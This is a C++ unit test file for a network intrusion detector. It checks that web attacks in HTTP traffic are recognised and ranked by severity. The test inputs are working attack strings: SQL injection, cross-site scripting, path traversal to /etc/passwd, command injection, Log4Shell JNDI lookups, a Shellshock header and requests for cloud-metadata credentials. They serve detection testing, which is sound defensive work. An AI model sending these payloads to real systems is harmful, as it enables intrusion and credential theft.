#include "detect/web_attack.h"

#include "detect/sql_patterns.h"
#include "detect/web_text.h"
#include "tests/unit/detect/watched_traffic.h"

namespace vedette::tests {
namespace {

using namespace std::chrono_literals;

constexpr Ends4 kToServer{0x0a000005, 0xc6336402}, kToClient{0xc6336402, 0x0a000005};

TEST(WebText, UndoesWhatHidesLetters) {
  EXPECT_EQ(web_text("%27%20OR+1%3d1", true), "' or 1=1");
  EXPECT_EQ(web_text("a+b", false), "a+b");
  EXPECT_EQ(web_text("%252e%252e%252f", false), "../");
  EXPECT_EQ(web_text("..%c0%af..%c0%afetc", false), "../../etc");
  EXPECT_EQ(web_text("%u003cScript%u003E", true), "<script>");
  EXPECT_EQ(web_text("100%", true), "100%");
  EXPECT_EQ(web_text("%", true), "%");
  EXPECT_EQ(without_comments("union/**/select/*x*/1"), "union select 1");
  EXPECT_EQ(without_comments("a/*b"), "a/*b");
  EXPECT_EQ(without_lookups("${${lower:j}${::-n}${env:x:-d}i:ldap://h}"), "${jndi:ldap://h}");
  EXPECT_EQ(without_lookups("${"), "${");
}

TEST(SqlPatterns, AreNotInSentences) {
  EXPECT_FALSE(sql_injection_in("id=1' or '1'='1").empty());
  EXPECT_FALSE(sql_injection_in("id=1 and 1=2").empty());
  EXPECT_FALSE(sql_injection_in("id=-1 union all select null,null").empty());
  EXPECT_FALSE(sql_injection_in("user=admin'-- &x=1").empty());
  EXPECT_TRUE(sql_injection_in("q=student union select committee").empty());
  EXPECT_TRUE(sql_injection_in("q=o'brien or smith").empty());
  EXPECT_TRUE(sql_injection_in("q=rock and roll=fun").empty());
  EXPECT_TRUE(sql_injection_in("color=1&order=2").empty());
  EXPECT_TRUE(sql_injection_in("q=the dogs' tails -- and ears").empty());
  EXPECT_TRUE(sql_injection_in("filter=price>10 and brand=x").empty());
}

class WebAttackTest : public WatchedTraffic {
 protected:
  void get(std::string_view target, int status = 200, std::string_view agent = "Mozilla/5.0") {
    const auto from = static_cast<std::uint16_t>(20000 + count_++);
    const auto time = Nanoseconds(count_ * count_ * 1s);  // as nobody who calls by the clock
    const std::string request = "GET " + std::string(target) +
                                " HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: " + std::string(agent) +
                                "\r\n\r\n";
    const std::string answer = "HTTP/1.1 " + std::to_string(status) + " Said\r\nContent-Length: 0\r\n\r\n";
    send(kToServer, VDT_IP_TCP, tcp(from, 80, 0x18, {}, text(request)), time);
    send(kToClient, VDT_IP_TCP, tcp(80, from, 0x18, {}, text(answer)), time + 5ms);
  }
  [[nodiscard]] Severity severity_of(std::string_view detector) const {
    const auto finding = std::ranges::find(over_, detector, &Finding::detector);
    EXPECT_NE(finding, over_.end()) << detector;
    return finding == over_.end() ? Severity::kInfo : finding->severity;
  }

  int count_ = 0;
};

TEST_F(WebAttackTest, IsNamedByWhatItIs) {
  get("/item?id=1%27%20UNION/**/SELECT%20user,password%20FROM%20users%23");
  get("/search?q=%3Cscript%3Ealert(1)%3C/script%3E");
  get("/page?file=../../../../etc/passwd");
  get("/.git/config", 404);
  get("/ping?host=127.0.0.1;cat%20/etc/hosts", 500);
  get("/?x=$%7B$%7Blower:j%7Dndi:ldap://203.0.113.9/a%7D", 404);
  get("/cgi-bin/status", 200, "() { :;}; /bin/bash -c id");
  get("/fetch?url=http://169.254.169.254/latest/meta-data/", 403);
  get("/index.php?-d+allow_url_include%3don", 404);
  finish();
  EXPECT_EQ(severity_of("web_sql_injection"), Severity::kHigh);
  EXPECT_EQ(severity_of("web_cross_site_scripting"), Severity::kMedium);
  EXPECT_EQ(severity_of("web_path_traversal"), Severity::kMedium);
  EXPECT_EQ(severity_of("web_sensitive_file"), Severity::kLow);
  EXPECT_EQ(severity_of("web_command_injection"), Severity::kMedium);
  EXPECT_EQ(severity_of("log4shell"), Severity::kMedium);
  EXPECT_EQ(severity_of("shellshock"), Severity::kHigh);
  EXPECT_EQ(severity_of("web_server_side_request"), Severity::kMedium);
  EXPECT_EQ(severity_of("web_code_injection"), Severity::kMedium);
}

TEST_F(WebAttackTest, IsOneFindingWithItsRequestsCounted) {
  for (int i = 0; i < 5; i++) get("/item?id=" + std::to_string(i) + "'+or+'1'='1", i == 3 ? 200 : 500);
  finish();
  ASSERT_EQ(raised_by("web_sql_injection"), 1U);
  EXPECT_EQ(over_[0].score, 5);
  EXPECT_EQ(over_[0].severity, Severity::kHigh);
  EXPECT_EQ(over_[0].first, 1s);
  EXPECT_EQ(over_[0].packets, 10U);
}

TEST_F(WebAttackTest, StandsInAnyField) {
  send(kToServer, VDT_IP_TCP,
       tcp(30000, 8080, 0x18, {},
           text("GET / HTTP/1.1\r\nHost: h\r\nX-Api-Version: ${${lower:J}ndi:ldap://203.0.113.9/a}\r\n\r\n")),
       1s);
  finish();
  EXPECT_EQ(severity_of("log4shell"), Severity::kMedium);
}

TEST_F(WebAttackTest, IsNotWhatSoundRequestsHold) {
  for (const std::string_view target : {"/",
                                        "/a/b/../c",
                                        "/search?q=cats+and+dogs",
                                        "/search?q=select+a+union+representative",
                                        "/?redirect=https%3A%2F%2Fexample.com%2F%3Fa%3D1%26b%3D2",
                                        "/wiki/C%2B%2B",
                                        "/t?x=%7B%22a%22%3A1%7D",
                                        "/style.css?v=1.2;3",
                                        "/item;jsessionid=12AB?x=1",
                                        "/q?text=if+a<b+then+c>d",
                                        "/env",
                                        "/.well-known/acme",
                                        "/ad?html=%3Cb%3Ebold%3C/b%3E",
                                        "/a?price=%24%7Bprice%7D",
                                        "/p?ids=1|2|3",
                                        "/q?filter=name;type;size",
                                        "/search?q=cat+%26%26+dog",
                                        "/x?name=O%27Neill&city=Cork",
                                        "/collect?dl=http%3A%2F%2Fx.com%2F..%2Fy",
                                        "/function?callback=function()%20%7B%20return%201%20%7D",
                                        "/q?sql=select+name+from+geo.places"})
    get(target);
  finish();
  for (const Finding& finding : over_) ADD_FAILURE() << finding.detector << ": " << finding.why;
}

TEST_F(WebAttackTest, TellsScannersByTheirName) {
  get("/robots.txt", 404, "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)");
  get("/robots.txt", 404, "curl/8.0");
  finish();
  EXPECT_EQ(raised_by("web_scanner"), 1U);
  EXPECT_EQ(severity_of("web_scanner"), Severity::kLow);
}

TEST_F(WebAttackTest, AsksOfTheCloudsMetadataAreToldByWhatTheyAskFor) {
  const Ends4 ends{0x0a000005, 0xa9fea9fe};
  send(ends, VDT_IP_TCP, tcp(30000, 80, 2), 1s);
  finish();
  ASSERT_EQ(raised_by("metadata_service"), 1U);
  EXPECT_EQ(over_[0].severity, Severity::kInfo);
}

TEST_F(WebAttackTest, AskingTheCloudForCredentialsIsMedium) {
  const Ends4 ends{0x0a000005, 0xa9fea9fe};
  send(ends, VDT_IP_TCP,
       tcp(30000, 80, 0x18, {},
           text("GET /latest/meta-data/iam/security-credentials/role HTTP/1.1\r\nHost: "
                "169.254.169.254\r\n\r\n")),
       1s);
  finish();
  ASSERT_EQ(raised_by("metadata_service"), 1U);
  EXPECT_EQ(over_[0].severity, Severity::kMedium);
}

}  // namespace
}  // namespace vedette::tests
